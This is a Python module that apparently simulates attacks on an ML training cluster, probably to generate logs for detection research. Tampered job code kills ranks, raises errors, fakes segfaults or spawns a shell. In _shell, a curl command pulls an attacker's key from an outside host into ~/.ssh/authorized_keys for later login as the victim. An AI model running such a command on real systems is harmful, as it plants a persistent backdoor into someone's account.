"""What altered code does from inside a job: it raises, ends the process, kills a rank, or opens a shell.

All of it happens as the victim: the uid of the kill and of the shell are the job owner's, and nobody logged in for them.  Who is behind
it stands in the write of the file, and in the deed that its effect belongs to.
"""

from pipeline.simulate import deeds, lines_training
from pipeline.simulate.clock import HOUR, MINUTE, SECOND, Process
from pipeline.simulate.cluster_training import ClusterTraining, held
from pipeline.simulate.deeds_files import daemon_writer, write
from pipeline.simulate.endings import SIGKILL, Site, bus, finish_failed, kill_rank, ranks_fail
from pipeline.simulate.lines_access import Subject, xid
from pipeline.simulate.training import RANK_PROGRAM
from pipeline.simulate.wares import Effect
from pipeline.simulate.work import PYTHON, Job, Rank, Share

SHELL = "/usr/bin/dash"


def strike(site: Site, job: Job, path: str, effect: Effect) -> Process:
    """Wait a random while, then do to the job what the effect is, if it is still there to be done to."""
    dice = site.world.dice("effects")
    yield site.world.now + round(dice.uniform(1, 18) * MINUTE)
    deed = effect.deed
    if job.over or job.protected or deed.is_content or not job.shares or not all(share.ranks for share in job.shares):
        return
    remaining = (job.start or 0) + min(job.fate.after, job.limit * SECOND) - site.world.now
    if remaining < 3 * MINUTE and effect.kind != "shell":
        return
    held(site.world, job)
    share = dice.choice(job.shares)
    rank = dice.choice(share.told)
    deed.befell(job, site.world.now, f"{effect.kind} {path}")
    match effect.kind:
        case "kill":
            yield from kill_itself(site, job, share, rank, path, "interference")
        case "shell":
            yield from _shell(site, job, effect)
        case "exit":
            job.over = True
            yield from ranks_fail(site, job, share, rank, 1)
            finish_failed(site, job, "1:0", "interference")
        case "segfault":
            job.over = True
            share.host.kernel(
                f"python3[{rank.pid}]: segfault at 0 ip 00007f2a11c0de10 sp 00007ffd5a3b1c40 error 4 in libc.so.6[7f2a11b00000+195000]"
            )
            share.host.kernel(xid(bus(rank), 43, rank.pid, "Ch 00000008"))
            yield from ranks_fail(site, job, share, rank, -11)
            finish_failed(site, job, "1:0", "interference")
        case _:
            yield from _raise(site, job, share, rank, path, effect.kind)


def kill_itself(site: Site, job: Job, share: Share, rank: Rank, path: str, cause: str) -> Process:
    """The code of the file sends SIGKILL to its own rank, or to a sibling on the node."""
    if job.has_probe and isinstance(site.training, ClusterTraining):
        through = [
            path if path.endswith(".py") else "<string>",
            f"{job.run.folder}/{lines_training.SCRIPT}",
        ]  # a pickle's, or a hook's line
        fields = {"pid": rank.pid, "uid": job.owner.uid, "means": "os.kill", "signal": SIGKILL, "target_pid": rank.pid, "through": through}
        site.training.probe(share.host, "signal_requested", job, **fields)
    sender = Subject.daemon(job.owner.uid, job.owner.gid)
    pids = (share.agent_pid or share.stepd_pid, rank.pid)
    yield from kill_rank(site, job, share, rank, sender, pids, RANK_PROGRAM, SIGKILL, cause)


def _raise(site: Site, job: Job, share: Share, rank: Rank, path: str, kind: str) -> Process:
    """The code raises; the traceback names the file."""
    job.over = True
    error, code = (
        ("ValueError: cannot decode sample: checksum of record differs", "sample = decode(self.reader[index])")
        if kind == "decode"
        else ("RuntimeError: shape mismatch in fused kernel: expected 4096, got 4095", "out = fused(grad, state)")
    )
    module = f"{path.rsplit('/', 1)[0]}/reader.py" if kind == "decode" else path
    where = (
        (f"{job.run.folder}/{lines_training.SCRIPT}", 301, "train_step", "loss.backward()"),
        (module, site.world.dice("effects").randrange(20, 400), "forward", code),
    )
    site.training.print(job, *lines_training.traceback(job, rank, error, where))
    yield from ranks_fail(site, job, share, rank, 1)
    finish_failed(site, job, "1:0", "interference")


def _shell(site: Site, job: Job, effect: Effect) -> Process:
    """A shell below a rank adds a key to the victim's account; with it the actor comes in as the victim, within a day."""
    world, actor = site.world, effect.deed.actor
    dice = world.dice("effects")
    share = job.shares[0]
    host, rank = share.host, share.ranks[0]
    command = f"mkdir -p ~/.ssh; curl -s http://{actor.address}:8080/k >> ~/.ssh/authorized_keys"
    if job.has_probe and isinstance(site.training, ClusterTraining):
        fields = {"pid": rank.pid, "uid": job.owner.uid, "means": "os.system", "executable": "/bin/sh", "arguments": ["sh", "-c", command]}
        site.training.probe(host, "process_spawned", job, **fields)
    subject = Subject.daemon(job.owner.uid, job.owner.gid)
    pid = deeds.execute(host, subject, rank.pid, ("sh", "-c", command), SHELL, job.run.folder)
    yield world.soon("effects", 0.2, 3)
    keys = f"/home/{job.owner.login}/.ssh/authorized_keys"
    writer = daemon_writer(host, job.owner, ("sh", "-c", command), SHELL)
    writer = deeds.Writer(host, writer.subject, (rank.pid, pid), writer.program, f"/home/{job.owner.login}")
    write(writer, keys, job.owner, world.inode(), create=True, key="ssh_keys")
    effect.deed.did(world.now, keys, host.name)
    job.protected = False
    yield world.now + round(dice.uniform(0.3, 20) * HOUR)
    session = deeds.log_in(world, dice.choice(world.login_hosts), job.owner, actor.address, actor.fingerprint)
    effect.deed.did(world.now, "", session.host.name)
    yield world.soon("effects", 60, 1200)
    deeds.run_command(session, (PYTHON, "-c", "import os"), PYTHON)
    yield world.soon("effects", 20, 600)
    deeds.log_out(session, actor.address)
